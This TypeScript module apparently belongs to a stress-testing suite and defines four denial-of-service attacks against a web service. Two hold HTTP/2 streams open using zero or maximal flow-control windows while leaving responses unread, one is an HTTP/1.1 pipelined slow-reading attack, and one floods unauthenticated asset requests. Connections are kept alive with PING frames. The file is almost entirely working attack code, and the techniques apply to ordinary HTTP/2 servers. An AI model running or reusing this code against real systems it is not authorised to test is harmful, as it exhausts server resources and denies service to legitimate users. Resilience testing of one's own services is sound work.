/** Requests whose answers are not read. */
import type { Attack, Target } from '../attack.ts';
import { aborted, count, keepConnections, pause } from '../connections.ts';
import {
  flags,
  type Fields,
  frame,
  frameTypes,
  headerBlock,
  prefaceWith,
  settingIds,
  uint32,
} from '../frames.ts';
import { type Asked, costlyRead, toFields, toHead } from '../requests.ts';

const ports = ['ingest', 'stream'] as const;
const maxWindow = 2 ** 31 - 1;

/** Sends as many requests as one connection may have, repeatedly. */
function hold(
  name: string,
  { window, isReading }: { readonly window: number; readonly isReading: boolean },
): Attack {
  return {
    name,
    ports,
    tokens: [false, true],
    run: (target, stop) => {
      const block = headerBlock(toFields(costlyRead(target)));
      const flag = flags.endHeaders + flags.endStream;
      return keepConnections(
        { target, stop, connections: 20, alpn: 'h2' },
        async (socket, tally) => {
          if (isReading) socket.resume();
          else socket.pause();
          socket.write(prefaceWith([[settingIds.initialWindowSize, window]]));
          if (window > 0) {
            socket.write(frame(frameTypes.windowUpdate, {}, uint32(maxWindow - 65_535)));
          }
          for (let id = 1; !stop.aborted && !socket.destroyed; id += 200) {
            const heads = Array.from({ length: 100 }, (_, index) =>
              frame(frameTypes.headers, { stream: id + 2 * index, flag }, block),
            );
            socket.write(Buffer.concat(heads));
            count(tally, 'requests', heads.length);
            // Keeps the connection from being idle.
            for (let second = 0; second < 5 && !stop.aborted; second += 1) {
              socket.write(frame(frameTypes.ping, {}, Buffer.alloc(8)));
              await pause(1000, stop);
            }
          }
        },
      );
    },
  };
}

const slowReading: Attack = {
  name: 'slow reading',
  ports,
  tokens: [false, true],
  run: (target, stop) =>
    keepConnections({ target, stop, connections: 200, alpn: 'http/1.1' }, async (socket, tally) => {
      socket.pause();
      const head = toHead(costlyRead(target), ['', '']);
      // Pipelined requests: their answers queue up.
      socket.write(head.repeat(10));
      count(tally, 'requests', 10);
      while (!stop.aborted && !socket.destroyed) {
        socket.read(1);
        await pause(1000, stop);
      }
    }),
};

/** The largest files that need no token. */
const assets: Attack = {
  name: 'the explorer, requested and not read',
  ports: ['stream'],
  tokens: [false],
  run: (target, stop) => {
    const asked: Asked = { method: 'GET', path: '/', fields: [] as Fields };
    return run(target, stop, asked);
  },
};

function run(target: Target, stop: AbortSignal, asked: Asked) {
  const block = headerBlock(toFields(asked));
  const flag = flags.endHeaders + flags.endStream;
  return keepConnections({ target, stop, connections: 20, alpn: 'h2' }, async (socket, tally) => {
    socket.pause();
    socket.write(prefaceWith([[settingIds.initialWindowSize, 0]]));
    const heads = Array.from({ length: 100 }, (_, index) =>
      frame(frameTypes.headers, { stream: 1 + 2 * index, flag }, block),
    );
    socket.write(Buffer.concat(heads));
    count(tally, 'requests', heads.length);
    await aborted(stop);
  });
}

export const answers: readonly Attack[] = [
  hold('window of zero, answers held', { window: 0, isReading: true }),
  hold('window of 2 GiB, nothing read', { window: maxWindow, isReading: false }),
  slowReading,
  assets,
];
